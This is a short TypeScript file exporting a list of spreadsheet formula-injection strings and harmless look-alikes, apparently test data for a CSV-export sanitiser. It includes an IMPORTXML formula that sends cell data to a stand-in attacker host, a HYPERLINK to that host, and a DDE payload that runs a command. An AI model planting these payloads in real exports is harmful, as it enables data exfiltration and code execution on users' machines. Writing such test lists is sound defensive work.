/**
 * Text that spreadsheet programs run as a formula when it is typed or imported: the OWASP CSV injection
 * starters (=, +, -, @, tab, carriage return), a DDE payload, an external-request formula and look-alikes.
 */
export const FORMULA_LIKE_TEXT: readonly string[] = [
  '=IMPORTXML("http://attacker.example/?"&A1,"//a")',
  '=HYPERLINK("http://attacker.example","Click")',
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  "'=already quoted",
  '==1',
  '+',
  '-',
  '=',
  '0003',
  '-50,000원',
  'TRUE',
  '2025-02-03',
  '12%',
  '_x0041_ stays as typed',
];
